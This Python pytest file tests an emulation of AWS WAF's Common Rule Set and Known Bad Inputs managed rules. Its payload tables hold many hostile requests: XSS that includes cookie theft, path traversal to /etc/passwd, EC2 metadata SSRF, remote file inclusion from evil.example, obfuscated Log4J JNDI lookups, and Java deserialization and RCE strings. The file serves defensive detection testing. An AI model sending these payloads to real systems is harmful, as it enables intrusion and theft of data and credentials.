"""AWSManagedRulesCommonRuleSet and AWSManagedRulesKnownBadInputsRuleSet: attacks (with
encoding evasions) caught by the rule AWS names, benign hard cases left alone, labels, and the
reference options (ExcludedRules, RuleActionOverrides, ScopeDownStatement, Count)."""

# ruff: noqa: E501 - payload tables keep one request per line

from __future__ import annotations

import base64
from typing import Any

import pytest

from mamori.perimeter.waf.rulesets import CATALOGUE
from mamori.perimeter.waf.schema import check_shape
from tests.perimeter.waf.builders import byte_match, field
from tests.perimeter.waf.managed_support import hit, judge, managed_acl

CRS = "AWSManagedRulesCommonRuleSet"
KBI = "AWSManagedRulesKnownBadInputsRuleSet"


@pytest.fixture(scope="module")
def crs() -> Any:
    return managed_acl(CRS)


@pytest.fixture(scope="module")
def kbi() -> Any:
    return managed_acl(KBI)


@pytest.mark.parametrize("name", sorted(CATALOGUE))
def test_every_group_is_a_valid_wafv2_rule_group(name: str) -> None:
    group = CATALOGUE[name]
    check_shape("RuleGroup", {
        "Name": name, "Id": "a1b2c3d4-5678-90ab-cdef-000000000000",
        "ARN": f"arn:aws:wafv2:us-east-1:aws:regional/rulegroup/{name}/x", "Capacity": group.capacity,
        "Rules": group.wafv2_rules(),
        "VisibilityConfig": {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True,
                             "MetricName": name},
    }, name)  # fmt: skip
    assert all(r.label and r.description for r in group.rules)


def test_group_costs_aws_published_capacity() -> None:
    assert managed_acl(CRS).capacity == 700
    assert managed_acl(KBI).capacity == 200


CRS_ATTACKS = [
    ("NoUserAgent_HEADER", {"drop": ("User-Agent",)}),
    ("NoUserAgent_HEADER", {"headers": {"User-Agent": ""}}),
    ("UserAgent_BadBots_HEADER", {"headers": {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6)"}}),
    ("UserAgent_BadBots_HEADER", {"headers": {"User-Agent": "sqlmap/1.7.2#stable"}}),
    ("UserAgent_BadBots_HEADER", {"headers": {"User-Agent": "Mozilla/5.0 (Hydra)"}}),
    ("SizeRestrictions_QUERYSTRING", {"uri": "/?q=" + "a" * 2100}),
    ("SizeRestrictions_Cookie_HEADER", {"headers": {"Cookie": "s=" + "b" * 10300}}),
    ("SizeRestrictions_BODY", {"method": "POST", "body": "x=" + "c" * 9000}),
    ("SizeRestrictions_URIPATH", {"uri": "/" + "d" * 1100}),
    ("EC2MetaDataSSRF_QUERYARGUMENTS", {"uri": "/fetch?url=http://169.254.169.254/latest/"}),
    ("EC2MetaDataSSRF_QUERYARGUMENTS", {"uri": "/fetch?url=http%3A%2F%2F2852039166%2F"}),
    ("EC2MetaDataSSRF_QUERYARGUMENTS", {"uri": "/fetch?url=http://[fd00:ec2::254]/"}),
    ("EC2MetaDataSSRF_BODY", {"method": "POST", "body": '{"hook":"http://0xA9FEA9FE/"}'}),
    ("EC2MetaDataSSRF_COOKIE", {"headers": {"Cookie": "img=http%253A%252F%252F169.254.169.254"}}),
    ("EC2MetaDataSSRF_URIPATH", {"uri": "/proxy/instance-data/latest/meta-data/iam/"}),
    ("GenericLFI_QUERYARGUMENTS", {"uri": "/view?f=../../../../etc/passwd"}),
    ("GenericLFI_QUERYARGUMENTS", {"uri": "/view?f=..%252f..%252fboot.ini"}),  # double-encoded
    ("GenericLFI_QUERYARGUMENTS", {"uri": "/view?f=..\\..\\windows\\win.ini"}),
    ("GenericLFI_QUERYARGUMENTS", {"uri": "/view?f=%u002e%u002e%u2215..%u2215x"}),
    ("GenericLFI_URIPATH", {"uri": "/static/..;/WEB-INF/web.xml"}),
    ("GenericLFI_BODY", {"method": "POST", "body": "template=../../../../proc/self/environ"}),
    ("RestrictedExtensions_URIPATH", {"uri": "/backup/site.SQL"}),
    ("RestrictedExtensions_URIPATH", {"uri": "/logs/error.log"}),
    ("RestrictedExtensions_QUERYARGUMENTS", {"uri": "/dl?file=config.ini"}),
    ("GenericRFI_QUERYARGUMENTS", {"uri": "/index.php?page=http://203.0.113.50/shell.txt?"}),
    ("GenericRFI_BODY", {"method": "POST", "body": "inc=ftp%3A%2F%2F198.51.100.9%2Fx.php"}),
    ("GenericRFI_URIPATH", {"uri": "/load/https:/%2F192.0.2.1/evil"}),
    ("GenericRFI_QUERYARGUMENTS", {"uri": "/index.php?page=http://evil.example/shell.txt%3F"}),
    ("GenericRFI_BODY", {"method": "POST", "body": '{"file":"http://evil.example/payload.txt??","n":1}'}),
    ("GenericRFI_BODY", {"method": "POST", "body": "inc=fTp%3A%2F%2FEvIL.example%2Finc.php"}),
    ("GenericRFI_BODY", {"method": "POST", "body": "inc=%5C%5Cevil.example%5Cshare%5Cx.php"}),
    ("GenericRFI_BODY", {"method": "POST", "body": '{"inc":"\\\\\\\\evil.example\\\\share\\\\x.php"}'}),
    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"}),
    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%253Csvg%2520onload%253Dalert(1)%253E"}),
    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=&lt;img src=x onerror=alert(1)&gt;"}),
    ("CrossSiteScripting_BODY", {"method": "POST", "body": "c=<ScRiPt>document.cookie</sCrIpT>"}),
    ("CrossSiteScripting_BODY", {"method": "POST", "body": '{"bio":"<a href=\\"javascript:alert(1)\\">x</a>"}'}),
    ("CrossSiteScripting_COOKIE", {"headers": {"Cookie": "n=%3Ciframe%20src%3Djavascript:alert(1)%3E"}}),
    ("CrossSiteScripting_URIPATH", {"uri": "/p/%3Cscript%3Ealert(1)%3C%2Fscript%3E"}),
    # JSON bodies with \uXXXX escapes: the body rules undo them (JS_DECODE)
    ("CrossSiteScripting_BODY", {"method": "POST", "body": '{"bio":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'}),
    ("GenericLFI_BODY", {"method": "POST", "body": '{"f":"\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"}'}),
    ("GenericLFI_BODY", {"method": "POST", "body": '{"f":"..\\\\..\\\\windows\\\\win.ini"}'}),
    ("GenericLFI_BODY", {"method": "POST", "body": "f=..\\..\\windows\\win.ini"}),  # form: backslashes kept
    ("EC2MetaDataSSRF_BODY", {"method": "POST", "body": '{"hook":"http:\\/\\/169\\u002e254\\u002e169\\u002e254\\/latest\\/"}'}),
    # what libinjection's tokeniser lets through: Mamori's XSS patterns
    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%22%20on%7Bpaste%3Dalert(1)%20x%3D%22"}),
    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%22%20On%60FoCuS%3DPrint()%20autofocus"}),
    ("CrossSiteScripting_COOKIE", {"headers": {"Cookie": "p=<marquee%20onbounce=alert(1)>x</marquee>"}}),
    ("CrossSiteScripting_BODY", {"method": "POST", "body": '{"u":"Javas\\tcRIpT:AleRT(1)"}'}),
    ("CrossSiteScripting_BODY", {"method": "POST", "body": "u=%3Cimg%09src%3Dx%0Aonerror%3Dalert%3F.call(null%2C1)%3E"}),
    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=1%7C%7Calert%601%60"}),
    ("CrossSiteScripting_COOKIE", {"headers": {"Cookie": 'q=FiltER"%5D%5B"ConStructOr"%5D("alert(1)")()'}}),
    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%7B%7B%24on.constructor('alert(1)')()%7D%7D"}),
    ("CrossSiteScripting_URIPATH", {"uri": "/p/ale%27%2B%27rt%27%5D(1)"}),
    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=%5C%5Cx61%5C%5Cx6c%5C%5Cx65%5C%5Cx72%5C%5Cx74(1)"}),
    ("CrossSiteScripting_QUERYARGUMENTS", {"uri": "/s?q=data:text/javascript,alert(1)"}),
    ("CrossSiteScripting_COOKIE", {"headers": {"Cookie": "q=%3C/ScRiPt%3E"}}),
    ("CrossSiteScripting_BODY", {"method": "POST", "body": "c=new+Image().src%3D'//x/?'%2Bdocument.cookie"}),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "request_kw"), CRS_ATTACKS)
def test_core_rule_set_catches(crs: Any, rule: str, request_kw: dict[str, Any]) -> None:
    verdict = judge(crs, **request_kw)
    assert hit(verdict) == rule
    label = next(r.label for r in CATALOGUE[CRS].rules if r.name == rule)
    assert f"awswaf:managed:aws:core-rule-set:{label}" in verdict.labels


BENIGN = [
    {"uri": "/"},
    {"uri": "/search?q=select+the+best+option+from+the+union+of+both+lists"},
    {"uri": "/docs/getting-started?lang=en&page=2"},
    {"uri": "/img/logo.png"},
    {"uri": "/api/v1/items/42?fields=name,price&sort=-created"},
    {"uri": "/files/report-2024.pdf"},
    {"uri": "/blog/why-we-moved-to-../-less-paths"},
    {"method": "POST", "body": "comment=I+think+1%2B1%3D2+and+that%27s+fine"},
    {"method": "POST", "body": '{"query":"query { user(id: \\"42\\") { name orders(first: 5) { id } } }"}'},
    {"method": "POST", "body": '{"snippet":"import os\\nfor f in os.listdir(\\"../data\\"):\\n    print(f)"}'},
    {"method": "POST", "body": '{"html":"<p>Hello <b>world</b>, see <a href=\\"https://example.org\\">this</a></p><ul><li>one</li></ul>"}'},
    {"method": "POST", "body": "bio=I+work+on+the+metadata+team+at+a+data+center"},
    {"headers": {"Cookie": "session=3f2a9c; theme=dark; consent=1"}},
    {"headers": {"Referer": "https://www.google.com/search?q=shoes"}},
    {"uri": "/webhook?target=https://hooks.example.com/a/b"},
    {"method": "POST", "body": '{"bio":"I \\u2764 \\u003cb\\u003ebold\\u003c/b\\u003e text","dir":"..\\/assets\\/logo.png"}'},
    {"method": "POST", "body": "note=Set+an+alert(s)+for+price+drops%2C+and+please+confirm+(by+email)"},
    {"method": "POST", "body": '{"html":"<p>See <a href=\\"https://shop.example.com/p/online-deals?ref=one\\">the online deals</a></p>"}'},
    {"method": "POST", "body": '{"code":"for row in rows: print(row[\'id\']); el.on(\'click\', f)"}'},
    {"uri": "/s?q=javascript:+the+good+parts"},
    {"method": "POST", "body": '{"next":"https://api.example.com/orders?page=2","docs":"ftp://ftp.example.org/pub/"}'},
    {"method": "POST", "body": "site=https%3A%2F%2Fexample.com%2F&dir=C%3A%5CUsers%5Cme%5Cshare"},
    {"headers": {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) HydrangeaBrowser/2.0"}},
    {"uri": "/s?q=caf%C3%A9+%5Cu00e9t%C3%A9"},
]  # fmt: skip


@pytest.mark.parametrize("request_kw", BENIGN)
def test_core_rule_set_and_known_bad_inputs_leave_benign_requests(
    crs: Any, kbi: Any, request_kw: dict[str, Any]
) -> None:
    assert hit(judge(crs, **request_kw)) is None
    assert hit(judge(kbi, **request_kw)) is None


SERIALIZED = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap").decode()

KBI_ATTACKS = [
    ("JavaDeserializationRCE_HEADER", {"headers": {"X-Token": SERIALIZED}}),
    ("JavaDeserializationRCE_HEADER", {"headers": {"X-Api": "${(java.lang.Runtime).getRuntime().exec('id')}"}}),
    ("JavaDeserializationRCE_BODY", {"method": "POST", "body": b"\xac\xed\x00\x05sr\x00\x0ejava.lang.Long"}),
    ("JavaDeserializationRCE_BODY", {"method": "POST", "body": "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"}),
    ("JavaDeserializationRCE_BODY", {"method": "POST", "body": '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/"}'}),
    ("JavaDeserializationRCE_QUERYSTRING", {"uri": "/?data=aced00057372"}),
    ("JavaDeserializationRCE_URIPATH", {"uri": "/invoke/org.apache.commons.collections.functors.InvokerTransformer"}),
    ("Host_localhost_HEADER", {"headers": {"Host": "localhost"}}),
    ("Host_localhost_HEADER", {"headers": {"Host": "127.0.0.1:8080"}}),
    ("PROPFIND_METHOD", {"method": "PROPFIND"}),
    ("PROPFIND_METHOD", {"method": "propfind"}),
    ("ExploitablePaths_URIPATH", {"uri": "/WEB-INF/web.xml"}),
    ("ExploitablePaths_URIPATH", {"uri": "/.git/config"}),
    ("ExploitablePaths_URIPATH", {"uri": "/actuator/heapdump"}),
    ("ExploitablePaths_URIPATH", {"uri": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"}),
    ("Log4JRCE_HEADER", {"headers": {"User-Agent": "${jndi:ldap://203.0.113.9:1389/a}"}}),
    ("Log4JRCE_HEADER", {"headers": {"X-Api-Version": "${${lower:j}ndi:${lower:l}dap://x/a}"}}),
    ("Log4JRCE_HEADER", {"headers": {"Referer": "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"}}),
    ("Log4JRCE_HEADER", {"headers": {"X-Forwarded-For": "${j${env:NOPE:-n}di:dns://x/a}"}}),
    ("Log4JRCE_QUERYSTRING", {"uri": "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"}),
    ("Log4JRCE_QUERYSTRING", {"uri": "/?q=%2524%257BjNdI%253Aldap%253A%252F%252Fx%257D"}),
    ("Log4JRCE_BODY", {"method": "POST", "body": '{"name":"\\u0024{jndi:ldap://x/a}"}'}),
    ("Log4JRCE_BODY", {"method": "POST", "body": "u=${ ${upper:j}ndi:ldap://x/}"}),
    ("Log4JRCE_BODY", {"method": "POST", "body": "u=${sys:java.version}"}),
    ("Log4JRCE_URIPATH", {"uri": "/$%7Bjndi:ldap:%2F%2Fx%2Fa%7D"}),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "request_kw"), KBI_ATTACKS)
def test_known_bad_inputs_catches(kbi: Any, rule: str, request_kw: dict[str, Any]) -> None:
    verdict = judge(kbi, **request_kw)
    assert hit(verdict) == rule
    assert any(lab.startswith("awswaf:managed:aws:known-bad-inputs:") for lab in verdict.labels)


@pytest.mark.parametrize("request_kw", [
    {"method": "POST", "body": '{"tpl":"const s = `total: ${cond ? `${n} items` : \\"none\\"}`;"}'},
    {"method": "POST", "body": "note=Spring+Boot+actuators+and+JNDI+explained"},
    {"headers": {"Host": "localhost.example.com"}},
    {"uri": "/blog/git-tips"},
    {"method": "OPTIONS"},
])  # fmt: skip
def test_known_bad_inputs_hard_benign_cases(kbi: Any, request_kw: dict[str, Any]) -> None:
    assert hit(judge(kbi, **request_kw)) is None


def test_excluded_rule_counts_and_later_rules_still_block() -> None:
    acl = managed_acl(CRS, reference={"ExcludedRules": [{"Name": "NoUserAgent_HEADER"}]})
    counted = judge(acl, drop=("User-Agent",))
    assert counted.action == "ALLOW"
    assert counted.non_terminating_matches == (f"{CRS}:NoUserAgent_HEADER",)
    assert "awswaf:managed:aws:core-rule-set:NoUserAgent_Header" in counted.labels
    assert hit(judge(acl, "/s?q=<script>alert(1)</script>", drop=("User-Agent",))) == (
        "CrossSiteScripting_QUERYARGUMENTS"
    )


def test_rule_action_override_and_scope_down() -> None:
    acl = managed_acl(KBI, reference={
        "RuleActionOverrides": [{"Name": "PROPFIND_METHOD", "ActionToUse": {"Challenge": {}}}],
        "ScopeDownStatement": byte_match("/api/", field("UriPath"), "STARTS_WITH"),
    })  # fmt: skip
    assert judge(acl, "/api/x", method="PROPFIND").action == "CHALLENGE"
    assert judge(acl, "/web/x", method="PROPFIND").action == "ALLOW"  # outside the scope-down


def test_managed_content_ignores_the_users_search_string_encoding(tmp_path: Any) -> None:
    import json

    from mamori.perimeter.waf import load_web_acl
    from mamori.perimeter.waf.rulesets import web_acl_document

    path = tmp_path / "acl.json"
    path.write_text(json.dumps(web_acl_document([KBI])))
    acl = load_web_acl(path, search_string_encoding="text")
    assert hit(judge(acl, method="PROPFIND")) == "PROPFIND_METHOD"
    assert not acl.warnings
